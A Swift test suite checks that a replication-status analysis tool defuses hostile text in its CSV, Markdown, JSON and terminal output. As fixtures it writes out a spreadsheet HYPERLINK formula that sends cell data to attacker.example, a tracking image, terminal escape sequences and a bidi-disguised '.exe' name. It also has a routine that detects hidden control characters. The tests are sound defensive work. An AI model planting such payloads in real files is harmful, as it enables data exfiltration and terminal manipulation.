import Foundation
import Testing

/// Text from a capture written by someone hostile, through every report people and programs
/// open: spreadsheet formulas, terminal escapes, Markdown links and images, characters that
/// reorder text.
@Suite(.timeLimit(.minutes(10))) struct HostileTextTests {
    static let formula = #"=HYPERLINK("http://attacker.example/?q="&A1,"Click")"#
    static let terminal = "\u{1B}[2J\u{1B}]0;pwned\u{07}follower"
    static let markdown = "![x](http://attacker.example/p.png) [Click](https://x)"
    static let reordered = "@evil\u{9B}31m\u{202E}gnp.exe"
    /// Sorts between `'` and `=`: after the formula's index if sorting used the defused value.
    static let parenthesis = "(paren)"
    static let reason = "-2+3 \u{1B}[31mred\u{2028}next"
    static let indices = [formula, terminal, markdown, reordered, parenthesis]

    /// Each index syncs, then pauses with `reason`; the terminal one also has an error sample.
    static let capture: String = {
        func json(_ text: String) -> String {
            String(
                decoding: try! JSONSerialization.data(withJSONObject: text, options: .fragmentsAllowed), as: UTF8.self)
        }
        var lines: [String] = []
        for index in indices {
            let names = #""leader_alias":"@alias","leader_index":"=leader""#
            lines.append(
                #"{"@timestamp":"2026-11-28T00:00:00Z","index":\#(json(index)),"response":{"status":"SYNCING",\#(names),"#
                    + #""syncing_details":{"leader_checkpoint":10,"follower_checkpoint":5}}}"#)
            lines.append(
                #"{"@timestamp":"2026-11-28T00:00:10Z","index":\#(json(index)),"response":{"status":"PAUSED","#
                    + #""reason":\#(json(reason))}}"#)
        }
        lines.append(
            #"{"@timestamp":"2026-11-28T00:00:20Z","index":\#(json(terminal)),"response":{"error":{"type":"#
                + json("+x\u{1B}")
                + "}}}")
        return lines.joined(separator: "\n") + "\n"
    }()

    /// Whether `text` holds a character a terminal would obey (C0, DEL, C1), a line or paragraph
    /// separator, or a bidirectional control; line ends aside.
    private func hasHidden(_ text: String) -> Bool {
        let hidden: [ClosedRange<UInt32>] = [
            0x00...0x09, 0x0B...0x1F, 0x7F...0x9F, 0x061C...0x061C, 0x200E...0x200F, 0x2028...0x202E, 0x2066...0x2069,
        ]
        return text.unicodeScalars.contains { scalar in hidden.contains { $0.contains(scalar.value) } }
    }

    @Test func csvReportsDefuseFormulasAndSortByTheValue() throws {
        let folder = try TemporaryDirectory()
        let source = try folder.write("capture.jsonl", Self.capture)
        let out = folder.file("out")
        let run = try Replstat.run(["analyze", "--format", "csv", "--out", out.path, source.path])
        #expect(run.status == 0, "\(run.stderr)")
        let summary = CSV.parse(try String(contentsOf: out.appendingPathComponent("summary.csv"), encoding: .utf8))
        // Sorted by the names themselves: ESC, !, (, =, @ (with the `'`, `'=` would sort before `(`).
        #expect(
            summary.dropFirst().map { $0[0] } == [
                Self.terminal, Self.markdown, Self.parenthesis, "'" + Self.formula, "'" + Self.reordered,
            ])
        for row in summary.dropFirst() {
            #expect(row[1] == "'@alias" && row[2] == "'=leader")
        }
        let transitions = CSV.parse(
            try String(contentsOf: out.appendingPathComponent("transitions.csv"), encoding: .utf8))
        #expect(transitions.dropFirst().map { $0[4] } == Array(repeating: "'" + Self.reason, count: 5))
    }

    @Test func watchCSVShowsControlsAndDefusesFormulas() throws {
        let run = try Replstat.run(["watch", "--format", "csv"], stdin: Data(Self.capture.utf8))
        #expect(run.status == 0, "\(run.stderr)")
        #expect(!hasHidden(run.stdoutText))
        let rows = CSV.parse(run.stdoutText)
        let header = try #require(rows.first)
        let column = { (name: String) in header.firstIndex(of: name)! }
        let transitions = rows.filter { $0[0] == "transition" }
        #expect(
            Set(transitions.map { $0[column("index")] }) == [
                #"\u{1B}[2J\u{1B}]0;pwned\u{7}follower"#, Self.markdown, Self.parenthesis, "'" + Self.formula,
                #"'@evil\u{9B}31m\u{202E}gnp.exe"#,
            ])
        #expect(Set(transitions.map { $0[column("reason")] }) == [#"'-2+3 \u{1B}[31mred\u{2028}next"#])
        let error = try #require(rows.first { $0[0] == "error_start" })
        #expect(error[column("error_type")] == #"'+x\u{1B}"#)
    }

    /// The summary line names indices (what is still open) on standard error, often a terminal.
    @Test func watchSummaryShowsControlsInIndexNames() throws {
        let run = try Replstat.run(["watch", "--summary"], stdin: Data(Self.capture.utf8))
        #expect(run.status == 0, "\(run.stderr)")
        #expect(!hasHidden(run.stderr), "\(run.stderr)")
        #expect(run.stderr.contains(#"still open: errors of \u{1B}[2J\u{1B}]0;pwned\u{7}follower since "#))
    }

    /// File names are anyone's to choose (`analyze caps/*`): messages on standard error and the
    /// plan of `run --check` show their controls as notation, never as the bytes a terminal obeys.
    @Test func messagesAndPlansShowControlsInFileNames() throws {
        let dir = try TemporaryDirectory()
        let name = "x\u{1B}]2;pwned\u{07}\u{9B}2J\u{202E}.gz"
        let shown = #"x\u{1B}]2;pwned\u{7}\u{9B}2J\u{202E}.gz"#
        // A gzip member cut short: a message naming the file, exit 1.
        try Data([0x1F, 0x8B, 0x08, 0x00]).write(to: dir.file(name))
        let damaged = try Replstat.run(["analyze", "--out", dir.file("report.md").path, dir.file(name).path])
        #expect(damaged.status == 1)
        #expect(!hasHidden(damaged.stderr), "\(damaged.stderr)")
        #expect(damaged.stderr.contains(shown), "\(damaged.stderr)")
        let missing = try Replstat.run(["analyze", "--out", dir.file("report.md").path, dir.file("m" + name).path])
        #expect(missing.status == 1)
        #expect(!hasHidden(missing.stderr) && missing.stderr.contains("m" + shown), "\(missing.stderr)")
        let pipeline = try dir.write("p.yaml", "sources: ['\(dir.path)/*.gz']\nsinks: {markdown: out.md}\n")
        let plan = try Replstat.run(["run", "--check", pipeline.path])
        #expect(plan.status == 0, "\(plan.stderr)")
        let listed = String(decoding: plan.stdout, as: UTF8.self)
        #expect(!hasHidden(listed) && listed.contains(shown), "\(listed)")
    }

    @Test func watchJSONLinesEscapeControlsAndKeepTheText() throws {
        let run = try Replstat.run(["watch"], stdin: Data(Self.capture.utf8))
        #expect(run.status == 0, "\(run.stderr)")
        #expect(!hasHidden(run.stdoutText))
        let events = try run.stdout.split(separator: 0x0A).map {
            try #require(try JSONSerialization.jsonObject(with: Data($0)) as? [String: Any])
        }
        let transitions = events.filter { $0["event"] as? String == "transition" }
        #expect(Set(transitions.compactMap { $0["index"] as? String }) == Set(Self.indices))
        #expect(Set(transitions.compactMap { $0["reason"] as? String }) == [Self.reason])
    }

    @Test func markdownShowsTheTextAndNothingElse() throws {
        let folder = try TemporaryDirectory()
        let source = try folder.write("capture.jsonl", Self.capture)
        let run = try Replstat.run(["analyze", source.path])
        #expect(run.status == 0, "\(run.stderr)")
        let report = run.stdoutText
        #expect(!hasHidden(report))
        #expect(report.contains(#"| \!\[x\]\(http[:]//attacker.example/p.png\) \[Click\]\(https[:]//x\) |"#))
        #expect(report.contains(#"| `\u{1B}`\[2J`\u{1B}`\]0;pwned`\u{7}`follower "#))
        #expect(report.contains(#"| @evil`\u{9B}`31m`\u{202E}`gnp.exe "#))
        #expect(report.contains(#"| \-2+3 `\u{1B}`\[31mred`\u{2028}`next |"#))
        #expect(
            report.contains(
                #"=HYPERLINK\(""#
                    + #"http[:]//attacker.example/?q="\&A1,"Click"\)"#))
    }

    /// The report rendered by GitHub's own Markdown library has no link, image or raw HTML
    /// that the capture brought (cmark-gfm, which `scripts/setup --tests` installs).
    @Test func markdownRendersWithoutLinksOrImages() throws {
        let cmarkGFM = try #require(Self.cmarkGFM, "cmark-gfm is missing: run scripts/setup --tests")
        let folder = try TemporaryDirectory()
        let source = try folder.write("capture.jsonl", Self.capture)
        let report = try folder.write("report.md", try Replstat.run(["analyze", source.path]).stdoutText)
        let html = try Replstat.bash(
            "\(cmarkGFM) -e table -e autolink -e strikethrough '\(report.path)'"
        ).stdoutText
        #expect(html.contains("<table>"))
        #expect(!html.contains("<a ") && !html.contains("<img") && !html.contains("<em>"))
        #expect(html.contains("![x](http[:]//attacker.example/p.png) [Click](https[:]//x)"))
        #expect(html.contains("<code>\\u{1B}</code>[2J<code>\\u{1B}</code>]0;pwned<code>\\u{7}</code>follower"))
    }

    static let cmarkGFM: String? = ["/usr/bin/cmark-gfm", "/usr/local/bin/cmark-gfm"].first {
        FileManager.default.isExecutableFile(atPath: $0)
    }
}
